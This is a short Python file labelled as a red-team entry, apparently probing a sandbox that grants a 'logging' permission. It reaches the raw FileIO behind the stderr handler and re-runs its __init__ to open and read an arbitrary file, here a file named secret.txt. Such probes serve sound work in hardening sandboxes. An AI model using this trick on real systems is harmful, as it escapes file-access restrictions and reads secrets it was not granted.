# family: red team, round 8 (logging_stderr_fileio_reinit)
# With the "logging" permission: StreamHandler() defaults its public .stream to sys.stderr. Its FileIO
# (stream.buffer.raw) can be re-initialised through the readable protocol dunder __init__, which opens any
# path: FileIO.__init__ on an existing object is open().
import logging


def read_file(path: str) -> str:
    raw = logging.StreamHandler().stream.buffer.raw
    raw.__init__(path, "r")
    return raw.read().decode()


print(repr(read_file("/tmp/r8/work/secret.txt")))
